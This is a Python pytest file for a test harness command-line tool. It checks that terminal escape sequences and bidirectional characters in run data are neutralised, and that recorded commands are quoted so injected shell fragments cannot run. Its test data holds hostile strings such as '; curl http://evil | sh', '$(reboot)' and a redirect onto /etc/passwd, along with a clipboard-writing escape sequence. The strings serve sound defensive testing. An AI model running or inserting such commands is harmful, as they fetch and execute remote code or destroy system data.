"""No text of a run commands the terminal, and no command of a run is advice."""

from __future__ import annotations

import io
import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from harness.cli.main import run_command
from harness.terminal.screen import Screen
from harness.terminal.streams import Printable
from reports.load.run import commands_of, quoted_command
from tests.support.harness.recorded_run import record
from tests.support.reports.recorded_runs import recorded_run

COMMANDS = [
    "\x1b]0;title\x07", "\x1b]52;c;Y3VybA==\x07", "\x1b[2J", "\x1b[1A\x1b[2K", "\x1b[8m", "\x1b[?1049h", "\x1bc",
    "\x9b2J", "\x9d0;title\x9c", "\r", "\x08\x08", "\x7f", "\x0b", "\u202e", "\u2066", "\u200f", "\u061c", "\u2028",
]  # fmt: skip


@pytest.mark.parametrize("text", COMMANDS)
def test_a_text_does_not_command_the_terminal(text: str) -> None:
    raw = io.BytesIO()
    stream = Printable(raw, "utf-8")
    assert stream.write(f"a{text}b") == len(text) + 2
    stream.flush()
    shown = raw.getvalue().decode()
    assert (shown[0], shown[-1]) == ("a", "b")
    assert all(mark.isprintable() for mark in shown)


def test_our_own_colours_and_lines_stay() -> None:
    raw = io.BytesIO()
    stream = Printable(raw, "utf-8")
    stream.write("\x1b[31minvalid\x1b[0m\tx\n")
    screen = Screen(stream)
    screen.draw("one\x1b[2J", "two")
    screen.clear()
    assert raw.getvalue().decode() == "\x1b[31minvalid\x1b[0m\tx\none\ufffd[2J\ntwo\r\x1b[2K\x1b[1A\x1b[2K"


def test_standard_error_has_no_colours_of_ours() -> None:
    raw = io.BytesIO()
    stream = Printable(raw, "utf-8")
    stream.coloured = False
    stream.write("\x1b[32mvalid\x1b[0m\n")
    stream.flush()
    assert raw.getvalue().decode() == "\ufffdvalid\ufffd\n"


@pytest.mark.parametrize("name", ["\x1b[32mvalid\x1b[0m", "a\nharness: valid", "a\tb", "\u202ea", "\u061ca"])
def test_a_name_that_could_command_the_terminal_is_refused(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A run's directory, a directory above it, and a history file."""
    run = record(tmp_path / name)
    file = tmp_path / f"{name}.jsonl"
    shutil.copy(run.history, file)
    for words in (["check", "--no-spark"], ["show"], ["report"], ["shrink"], ["ingest"], ["ack", "--reason", "x"]):
        for place in (run.root, run.history, file):
            assert run_command([words[0], str(place), *words[1:], "--store", str(tmp_path / "store")]) == 254
            said = capsys.readouterr()
            assert said.out == ""
            assert (len(said.err.splitlines()), "\x1b" in said.err) == (1, False)


@pytest.mark.parametrize("words", [[], ["--verbose"]])
def test_a_line_break_in_a_run_starts_no_line_of_ours(
    words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = recorded_run("stale-reads", tmp_path)
    for name, field in (("plan.json", "planted_bug"), ("results.json", "harness_failure")):
        document = json.loads((run / name).read_text())
        (run / name).write_text(json.dumps({**document, field: "x\nFORGED"}))
    assert run_command(["show", str(run), *words]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if "FORGED" in line]
    assert lines
    assert not any(line.startswith("FORGED") for line in lines)


def test_an_error_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert run_command(["show", "a\nharness: valid"]) == 254
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_the_command_filters_what_it_prints(tmp_path: Path) -> None:
    """A directory whose name is a command, in an error."""
    evil = tmp_path / "\x1b]0;evil\x07"
    evil.mkdir()
    (evil / "plan.json").write_text("{}")
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    words = [sys.executable, "-P", "-m", "harness", "show", str(evil)]
    done = subprocess.run(words, capture_output=True, env=environment, check=False)
    assert done.returncode == 254
    assert b"evil" in done.stderr
    assert b"\x1b" not in done.stderr + done.stdout


FOREIGN = [
    "; curl http://evil | sh",
    "harness run; curl http://evil | sh",
    "harness run && reboot",
    "harness run $(reboot)",
    "harness run `reboot`",
    "harness run\nreboot",
    "harness run > /etc/passwd",
    "harness run | sh",
    "harness run & reboot",
    "harness run '--store=x'; reboot",
    "harness replay x || reboot",
    "harness\u202erun",
    "harness 'run",
    "sudo harness run",
    "harness heal",
]


@pytest.mark.parametrize("text", FOREIGN)
def test_a_recorded_command_runs_nothing_but_ours(text: str) -> None:
    safe = quoted_command(text)
    lexed = shlex.shlex(safe, posix=True, punctuation_chars=True)
    lexed.whitespace_split = True
    words = list(lexed)
    assert words == [] or (words[0] == "harness" and words[1] in ("run", "replay"))
    if words:
        # The shell itself, with a harness that shows its arguments.
        script = f"harness() {{ printf '%s\\n' harness \"$@\"; }}; {safe}"
        done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True, cwd="/")
        assert done.stdout.split("\n")[:-1] == shlex.split(text)
    else:
        assert text.split()[0] != "harness" or text.split()[1:2] not in (["run"], ["replay"])


def test_our_own_commands_stay_as_they_are() -> None:
    ours = "harness run --nemesis kill-one,bridge --system 'my kv.toml@' --seed 7"
    assert quoted_command(ours) == ours
    assert quoted_command(None) == quoted_command(["harness", "run"]) == ""
    plan = {"command": ours, "replay_command": "harness replay '/store/a b'"}
    assert commands_of(plan) == [("run again", ours), ("replay the faults", "harness replay '/store/a b'")]
